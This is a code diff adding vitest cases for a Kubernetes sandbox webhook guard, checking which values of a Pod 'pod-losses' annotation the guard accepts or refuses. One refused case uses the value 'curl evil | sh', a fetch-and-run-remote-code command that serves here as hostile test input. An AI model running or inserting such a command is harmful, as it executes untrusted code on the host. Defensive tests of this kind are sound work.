@@ -1,8 +1,10 @@
 /** What an answer may make of a Sandbox's Pod and Service that exist, judged by Metacontroller's own merge. @module */
 import { expect, test } from "vitest";
 import { childRules } from "../../../hooks/sandbox/childrules.ts";
+import { buildPod, keepPod } from "../../../hooks/sandbox/pod.ts";
 import { CONTROLLER_UID_LABEL, NAME_HASH_LABEL } from "../../../packages/api/objects/keys.ts";
 import type { DesiredObject, KubeObject } from "../../../packages/api/objects/objects.ts";
+import type { Pod } from "../../../packages/api/objects/pods.ts";
 import { guardAnswer } from "../../../packages/webhook/guard.ts";
 import { unchangedSpec } from "../../../packages/webhook/unchanged.ts";
 import { aChild, aRequest, aSandbox, NOW } from "../../sandboxes.ts";
@@ -71,6 +73,27 @@ test.for(labels)("a live Pod $name", ({ applied, is, will, refused }) => {
   const desired = { ...answered("Pod"), metadata: { name: "demo", labels: will as Record<string, string> } };
   const verdict = guardAnswer(aRequest(aSandbox({ spec }), [pod]), [desired], {}, NOW, "any", childRules);
   expect("refusal" in verdict).toBe(refused ?? false);
+});
+
+const LOSSES = "agents.x-k8s.io/pod-losses";
+const since = "2 2026-11-21T12:00:00.000Z";
+const losses = [
+  { name: "a new Pod says how many were lost", will: since },
+  { name: "a new Pod says anything else there", will: "curl evil | sh", refused: true },
+  { name: "a Pod keeps saying it", is: since, will: since },
+  { name: "a Pod says another number", is: since, will: "1 2026-11-21T12:00:00.000Z", refused: true },
+  { name: "a Pod that has lasted is made to say it", is: null, will: since, refused: true },
+];
+
+test.for(losses)("$name", ({ is, will, refused }) => {
+  const sandbox = aSandbox();
+  const metadata = is ? { annotations: { [LOSSES]: is } } : {};
+  const pods = is === undefined ? [] : [aChild("Pod", { metadata, lastApplied: { metadata } })];
+  const pod = pods[0] ? keepPod(sandbox, pods[0] as Pod) : buildPod(sandbox);
+  const annotations = { ...pod.metadata.annotations, [LOSSES]: will };
+  const desired = [{ ...pod, metadata: { ...pod.metadata, annotations } }];
+  const verdict = guardAnswer(aRequest(sandbox, pods), desired, {}, NOW, "any", childRules);
+  expect("refusal" in verdict, JSON.stringify(verdict)).toBe(refused ?? false);
 });
 
 const hash = { [NAME_HASH_LABEL]: "aefd3536" };
